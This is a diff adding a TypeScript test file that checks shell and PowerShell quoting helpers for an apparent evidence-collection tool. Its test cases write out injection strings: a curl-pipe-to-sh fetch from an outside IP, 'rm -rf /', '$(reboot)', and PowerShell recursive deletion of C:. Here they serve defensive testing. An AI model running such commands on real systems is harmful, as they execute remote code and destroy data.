@@ -1,0 +1,61 @@
+import { execFileSync } from 'node:child_process';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { powerShell, shell, withVariables } from '../../../tasks/collect-volatile-evidence/script';
+
+const scripts = join(__dirname, '..', '..', '..', 'tasks', 'collect-volatile-evidence', 'scripts');
+
+/** What a shell makes of a word. */
+function echoed(word: string): string {
+  return execFileSync('sh', ['-c', `printf %s ${word}`]).toString('utf8');
+}
+
+test.each([
+  ["pod'; curl http://198.51.100.66/x | sh; '"],
+  ['$(reboot)'],
+  ['`id`'],
+  ['a\nrm -rf /\nb'],
+  ['"$IFS"&&:||!#'],
+  ["'"],
+  [''],
+  ['--help'],
+])('%j is one word to a shell, and means nothing', (text) => {
+  expect(echoed(shell.quoted(text))).toBe(text);
+});
+
+test('whatever a name holds, the shell sees that and nothing else', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'grapheme-ascii', maxLength: 60 }), (text) => {
+      expect(echoed(shell.quoted(text))).toBe(text);
+    }),
+    { numRuns: 20 },
+  );
+});
+
+test('a variable’s value cannot leave its line', () => {
+  const script = withVariables(shell, 'printf %s "$SUSPECT_PODS"', { SUSPECT_PODS: "x'\necho taken\n'" });
+  expect(execFileSync('sh', ['-c', script]).toString('utf8')).toBe("x'\necho taken\n'");
+});
+
+test.each([
+  ["pod'; Remove-Item C:\\ -Recurse; '", "'pod''; Remove-Item C:\\ -Recurse; '''"],
+  ['$(Restart-Computer) `n "', `'$(Restart-Computer) \`n "'`],
+  ['\u2018a\u2019b\u201ac\u201b', "'\u2018\u2018a\u2019\u2019b\u201a\u201ac\u201b\u201b'"],
+  ['', "''"],
+])('%j is one word to PowerShell, which ends a text at typographic quotes too', (text, word) => {
+  expect(powerShell.quoted(text)).toBe(word);
+});
+
+const files = readdirSync(scripts);
+
+test.each(files.filter((name) => name.endsWith('.sh')))('%s is a script that a POSIX shell can read', (name) => {
+  expect(() => execFileSync('sh', ['-n', join(scripts, name)])).not.toThrow();
+});
+
+test.each(files)('%s runs nothing that is put together', (name) => {
+  const text = readFileSync(join(scripts, name), 'utf8');
+  expect(text).not.toMatch(/\beval\b|Invoke-Expression|\biex\b/);
+  // Windows PowerShell would misread anything else, and no shell needs it.
+  expect(text).toMatch(/^[\n\x20-\x7e]+$/);
+});
